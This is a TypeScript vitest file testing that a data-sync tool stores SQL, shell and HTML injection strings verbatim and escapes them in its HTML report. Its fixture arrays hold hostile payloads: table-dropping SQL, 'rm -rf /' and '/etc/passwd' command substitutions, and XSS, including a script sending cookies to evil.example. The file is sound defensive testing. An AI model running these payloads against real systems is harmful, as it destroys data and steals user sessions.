/**
 * Injection: uids, source names and free-text fields holding SQL, shell and HTML metacharacters travel
 * from the platform (sandbox) through `validic-sync backfill` into the warehouse byte for byte, and come
 * out escaped in the HTML report (`validic-sync report`). Nothing is executed along the way: no SQL is
 * built from them, no shell sees them, no markup from them reaches the page.
 */
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/load-config.ts';
import { escapeHtml, renderReport } from '../../src/report/render-report.ts';
import { readReportData } from '../../src/report/report-data.ts';
import { type Sandbox, startSandbox } from '../../src/sandbox/index.ts';
import { recordAuditCell, startAudit } from '../../src/warehouse/audits.ts';
import { applyBatch } from '../../src/warehouse/loader/apply-batch.ts';
import { runCli, sandboxEnv } from '../helpers/cli.ts';
import { compareWithTruth, NO_DIFFERENCES } from '../helpers/compare-with-truth.ts';
import { day } from '../helpers/fixtures/index.ts';
import { createTestDatabase, type TestDatabase } from '../helpers/pg.ts';

const dir = mkdtempSync(join(tmpdir(), 'validic-injection-'));
const tripwire = join(dir, 'pwned');

const NASTY_UIDS = [
  `robert'); drop table validic.records; --`,
  `"; delete from validic.users where '1'='1`,
  `$(touch ${tripwire})`,
  `\`touch ${tripwire}\` && rm -rf / ; | cat /etc/passwd`,
  `<script>alert("uid")</script>`,
  `a/b?c=d&token=e#f %2F ..%2F..`,
  `ünï cödé 🧪 \\ back\\slash`,
];

const NASTY_SOURCES = [
  `<img src=x onerror=alert(1)>`,
  `fitbit'; update validic.records set checksum = 'x'; --`,
  `"><svg onload=alert(2)>`,
];

const NASTY_TEXT = [
  `'; drop schema validic cascade; --`,
  `$(touch ${tripwire}) \`id\` ; rm -rf ~`,
  `<script>document.location='https://evil.example/?c='+document.cookie</script>`,
  `</td></tr></table><iframe src="javascript:alert(3)">`,
  // (NUL is left out: PostgreSQL cannot store it, such records are quarantined; see bad-input.test.ts.)
  `\u0001\u001b[31m control characters \u202e reversed`,
];

describe('hostile uids, names and notes', () => {
  let sandbox: Sandbox;
  let db: TestDatabase;
  const added: { uid: string; recordId: string; source: string; notes: string }[] = [];

  beforeAll(async () => {
    sandbox = await startSandbox({ seed: 61, users: 1, days: 3 });
    db = await createTestDatabase();
    NASTY_UIDS.forEach((uid, i) => {
      sandbox.control.addUser({ uid });
      const source = NASTY_SOURCES[i % NASTY_SOURCES.length]!;
      const notes = NASTY_TEXT[i % NASTY_TEXT.length]!;
      const record = sandbox.control.addRecord({
        uid,
        type: 'measurement',
        source,
        fields: { notes, name: NASTY_TEXT[(i + 1) % NASTY_TEXT.length] },
      });
      sandbox.control.connectSource(uid, source);
      added.push({ uid, recordId: record.id, source, notes });
    });
  });
  afterAll(async () => {
    await sandbox?.close();
    await db?.drop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('are stored verbatim by a backfill', async () => {
    const to = day(0);
    const from = day(25);
    const result = await runCli(
      ['backfill', '--from', from, '--to', to],
      sandboxEnv(sandbox, { DATABASE_URL: db.url }),
    );
    expect(result.code, result.stderr).toBe(0);
    expect(await compareWithTruth(db.warehouse, sandbox)).toEqual(NO_DIFFERENCES);

    const users = await sql<{ uid: string }>`select uid from validic.users`.execute(db.warehouse.db);
    expect(users.rows.map((u) => u.uid)).toEqual(expect.arrayContaining(NASTY_UIDS));
    for (const a of added) {
      const row = await sql<{ uid: string; source_type: string; notes: string; name: string }>`
        select uid, source_type, raw->>'notes' as notes, raw->>'name' as name
        from validic.records where id = ${a.recordId}`.execute(db.warehouse.db);
      expect(row.rows[0], a.uid).toMatchObject({ uid: a.uid, source_type: a.source, notes: a.notes });
    }
    const events = await sql<{ uid: string; source_type: string }>`
      select uid, source_type from validic.connection_events`.execute(db.warehouse.db);
    for (const a of added) expect(events.rows).toContainEqual({ uid: a.uid, source_type: a.source });
    // The tables the SQL fragments name are all still there, and no shell ran.
    const tables = await sql<{ n: number }>`
      select count(*)::int as n from information_schema.tables where table_schema = 'validic'`.execute(
      db.warehouse.db,
    );
    expect(tables.rows[0]!.n).toBeGreaterThan(10);
    expect(existsSync(tripwire)).toBe(false);
  });

  it('render escaped in the HTML report', async () => {
    // A quarantine reason can carry outside text too.
    await applyBatch(db.warehouse, {
      orgId: sandbox.orgId,
      arrivedVia: 'stream',
      items: [{ kind: 'unparseable', text: NASTY_TEXT[2]!, reason: `bad frame ${NASTY_TEXT[3]}` }],
    });
    // An audit run (a hostile seed, hostile users' cells): the report sums it up.
    const auditId = await startAudit(db.warehouse.db, {
      orgId: sandbox.orgId,
      kind: 'command',
      rangeFrom: day(25),
      rangeTo: day(0),
      sample: 1,
      seed: NASTY_TEXT[3]!,
      population: 2,
      planned: 2,
      repair: true,
    });
    for (const [i, outcome] of (['complete', 'drift'] as const).entries())
      await recordAuditCell(db.warehouse.db, auditId, sandbox.orgId, {
        uid: NASTY_UIDS[i]!,
        resource: NASTY_SOURCES[i]!,
        startDate: day(25),
        endDate: day(0),
        stratum: 'all',
        outcome,
        platformRecords: 1,
        equal: outcome === 'complete' ? 1 : 0,
        missing: outcome === 'drift' ? 1 : 0,
        stale: 0,
        extra: 0,
        repaired: outcome === 'drift' ? 1 : 0,
        driftIds: outcome === 'drift' ? [NASTY_TEXT[2]!] : [],
      });
    const out = join(dir, 'report.html');
    const env = sandboxEnv(sandbox, { DATABASE_URL: db.url });
    const cli = await runCli(['report', '--out', out], env);
    expect(cli.code, cli.stderr).toBe(0);
    const html = readFileSync(out, 'utf8');
    // Read with the CLI's config: the streams section names the configured streams.
    const config = loadConfig(env);
    expect(html).toBe(
      renderReport({
        ...(await readReportData(db.warehouse.db, { config })),
        generatedAt: extractGenerated(html),
      }),
    );

    for (const source of NASTY_SOURCES) {
      expect(html).not.toContain(source);
      expect(html).toContain(escapeHtml(source));
    }
    expect(html).toContain(escapeHtml(`bad frame ${NASTY_TEXT[3]}`));
    // The completeness audit's section, read from validic_sync.audits and audit_cells.
    expect(html).toContain(`<p><b>${escapeHtml(sandbox.orgId)}</b></p>`);
    expect(html).toContain(`Last run ${auditId} (command, ${day(25)} to ${day(0)}), started `);
    expect(html).toContain('cells 1 complete, 1 drift, 0 failed of 2 planned');
    expect(html).toContain('records 1 equal, 1 missing, 0 stale, 0 extra, 1 repaired.');
    // day, cells 2, not yet synced 0, drift 1, missing 1
    expect(html).toMatch(/<tr><td>\d{4}-\d{2}-\d{2}<\/td><td>2<\/td><td>0<\/td><td>1<\/td><td>1<\/td>/);
    // The only markup is the report's own: every tag is one the report writes, with no handler.
    const tags = new Set([...html.matchAll(/<\/?([a-z0-9!]+)/gi)].map((m) => m[1]!.toLowerCase()));
    const own = ['!doctype', 'html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'h2', 'p', 'div', 'b'];
    const allowed = new Set([
      ...own,
      'svg',
      'text',
      'rect',
      'span',
      'i',
      'table',
      'thead',
      'tbody',
      'tr',
      'th',
      'td',
    ]);
    expect([...tags].filter((t) => !allowed.has(t))).toEqual([]);
    expect(html).not.toMatch(/<[^>]*\son\w+=/i);
  });
});

function extractGenerated(html: string): string {
  return /Generated ([^<]+)\./.exec(html)?.[1] ?? '';
}
